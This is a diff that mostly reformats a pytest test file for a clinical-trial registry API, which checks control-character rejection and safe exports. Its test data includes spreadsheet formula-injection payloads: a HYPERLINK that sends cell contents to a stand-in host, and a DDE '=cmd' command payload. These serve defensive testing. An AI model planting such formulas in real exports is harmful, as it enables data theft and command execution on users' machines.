@@ -29,9 +29,14 @@ from trials.models import AdverseEvent, DataQuery, Lock, Procedure, SkeletalEven
 
 pytestmark = pytest.mark.django_db
 
-FILE_EXPORTS = ("/api/v1/export/odm.xml", "/api/v1/export/redcap/records.csv", "/api/v1/export/redcap/dictionary.csv",
-                "/api/v1/export/registry.xlsx", "/api/v1/export/dataset-json/adverse-events.json",
-                "/api/v1/export/dataset-json/procedures.ndjson")
+FILE_EXPORTS = (
+    "/api/v1/export/odm.xml",
+    "/api/v1/export/redcap/records.csv",
+    "/api/v1/export/redcap/dictionary.csv",
+    "/api/v1/export/registry.xlsx",
+    "/api/v1/export/dataset-json/adverse-events.json",
+    "/api/v1/export/dataset-json/procedures.ndjson",
+)
 ALL_EXPORTS = FILE_EXPORTS + tuple(f"/api/v1/export/{name}.csv" for name in EXPORTS)
 READ_ROLES = tuple(r for r in ROLES if r != "anonymous")
 HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A1,"details")'
@@ -54,11 +59,20 @@ def _export_statuses(registry) -> dict[tuple[str, str], int]:
 
 def _ae_body(registry, term: str) -> dict:
     patient = registry.patients["own"]
-    return {"patient": patient.study_id, "term": term, "onset_date": str(patient.day0 + dt.timedelta(days=2)),
-            "sir_grade": "mild", "ctcae_grade": 1, "relatedness": "procedure", "serious": False, "outcome": "recovered"}
+    return {
+        "patient": patient.study_id,
+        "term": term,
+        "onset_date": str(patient.day0 + dt.timedelta(days=2)),
+        "sir_grade": "mild",
+        "ctcae_grade": 1,
+        "relatedness": "procedure",
+        "serious": False,
+        "outcome": "recovered",
+    }
 
 
 # --- at the door ---------------------------------------------------------------------------------------------------
+
 
 @pytest.mark.parametrize("bad", ["Nausea\x0bvomiting", "Burn\x00", "Fe\x85ver", "Pain\x1b[31m", "Rash\x7f"])
 def test_control_characters_in_an_ae_term_are_refused_naming_the_field(registry, bad):
@@ -79,13 +93,18 @@ def test_tab_newline_and_every_printable_script_are_accepted(registry):
 
 def test_reasons_query_messages_and_lock_reasons_refuse_control_characters(registry):
     client, ae = registry.client("coordinator"), registry.patients["own"].adverse_events.get()
-    bad_reason = client.patch(f"/api/v1/adverse-events/{ae.pk}/", {"outcome": "recovering", "reason": "SD\x0cV"}, format="json", **if_match(ae))
+    bad_reason = client.patch(
+        f"/api/v1/adverse-events/{ae.pk}/", {"outcome": "recovering", "reason": "SD\x0cV"}, format="json", **if_match(ae)
+    )
     assert bad_reason.status_code == 400 and "reason" in bad_reason.json()["errors"]
     void = client.post(f"/api/v1/adverse-events/{ae.pk}/void/", {"reason": "du\x1fp"}, format="json", **if_match(ae))
     assert void.status_code == 400 and "reason" in void.json()["errors"]
     dm = registry.client("data_manager")
-    query = dm.post("/api/v1/data-queries/", {"record_type": "adverseevent", "object_id": ae.pk, "field_name": "term",
-                                              "message": "Check\x08 term"}, format="json")
+    query = dm.post(
+        "/api/v1/data-queries/",
+        {"record_type": "adverseevent", "object_id": ae.pk, "field_name": "term", "message": "Check\x08 term"},
+        format="json",
+    )
     assert query.status_code == 400 and "message" in query.json()["errors"]
     lock = dm.post("/api/v1/locks/", {"scope": "study", "reason": "cut\x9b-off"}, format="json")
     assert lock.status_code == 400 and "reason" in lock.json()["errors"]
@@ -95,12 +114,14 @@ def test_reasons_query_messages_and_lock_reasons_refuse_control_characters(regis
 def test_services_refuse_a_control_character_in_a_device_name(registry):
     procedure = registry.patients["own"].procedures.get()
     with pytest.raises(DomainValidationError) as error:
-        services.clinical_record_update(actor=registry.users["coordinator"], instance=procedure,
-                                        changes={"device": "Probe\x0bX"}, reason="SDV")
+        services.clinical_record_update(
+            actor=registry.users["coordinator"], instance=procedure, changes={"device": "Probe\x0bX"}, reason="SDV"
+        )
     assert "device" in error.value.errors and "U+000B" in error.value.errors["device"][0]
 
 
 # --- on the way out ------------------------------------------------------------------------------------------------
+
 
 def test_a_stored_vertical_tab_never_breaks_an_export_even_after_voiding(registry):
     ae = registry.patients["own"].adverse_events.get()
@@ -120,8 +141,9 @@ def test_formulas_are_text_in_the_workbook_and_neutralised_in_csv(registry):
     ae = registry.patients["own"].adverse_events.get()
     services.clinical_record_update(actor=registry.users["coordinator"], instance=ae, changes={"term": HYPERLINK}, reason="SDV")
     sre = registry.patients["own"].skeletal_events.get()
-    services.clinical_record_update(actor=registry.users["coordinator"], instance=sre, changes={"location": "+1 pain flare"},
-                                    reason="SDV")
+    services.clinical_record_update(
+        actor=registry.users["coordinator"], instance=sre, changes={"location": "+1 pain flare"}, reason="SDV"
+    )
     client = registry.client("coordinator")
     book = load_workbook(io.BytesIO(client.get("/api/v1/export/registry.xlsx").content))
     sheet = book["adverse-events"]
@@ -168,12 +190,24 @@ def _write_everywhere(registry, texts: list[str]) -> list[int]:
             _send(coordinator, "patch", f"/api/v1/procedures/{procedure.pk}/", {"device": text, "reason": text}),
             _send(coordinator, "patch", f"/api/v1/skeletal-events/{sre.pk}/", {"location": text, "reason": "SDV"}),
             _send(dm, "patch", f"/api/v1/patients/{own.study_id}/", {"protocol_deviation": text, "reason": "SDV"}),
-            _send(dm, "post", "/api/v1/data-queries/", {"record_type": "adverseevent", "object_id": ae.pk, "field_name": "term",
-                                              "message": text}),
-            _send(coordinator, "post", "/api/v1/study-exits/", {"patient": own.study_id, "exit_type": "death",
-                                                      "exit_date": str(own.day0 + dt.timedelta(days=50)),
-                                                      "last_contact_date": str(own.day0 + dt.timedelta(days=50)),
-                                                      "death_cause": text}),
+            _send(
+                dm,
+                "post",
+                "/api/v1/data-queries/",
+                {"record_type": "adverseevent", "object_id": ae.pk, "field_name": "term", "message": text},
+            ),
+            _send(
+                coordinator,
+                "post",
+                "/api/v1/study-exits/",
+                {
+                    "patient": own.study_id,
+                    "exit_type": "death",
+                    "exit_date": str(own.day0 + dt.timedelta(days=50)),
+                    "last_contact_date": str(own.day0 + dt.timedelta(days=50)),
+                    "death_cause": text,
+                },
+            ),
         ]
         exit_ = StudyExit.objects.filter(patient=own).active().first()
         if exit_ is not None:
@@ -193,8 +227,13 @@ def _store_around_the_services(registry, text: str) -> None:
     AdverseEvent.history.model.objects.filter(patient_id=own.pk).update(history_change_reason=storable[:100])
 
 
-@settings(max_examples=4, derandomize=True, deadline=None, database=None,
-          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large])
+@settings(
+    max_examples=4,
+    derandomize=True,
+    deadline=None,
+    database=None,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
+)
 @given(texts=st.lists(NASTY, min_size=1, max_size=3))
 @example(texts=["Nausea\x0bvomiting\x00\ud800\u202e=cmd|' /C calc'!A0", HYPERLINK, "@SUM(1+1)\x85\x9f" * 500])
 def test_fuzzed_free_text_never_makes_the_api_or_an_export_fail(registry, texts):
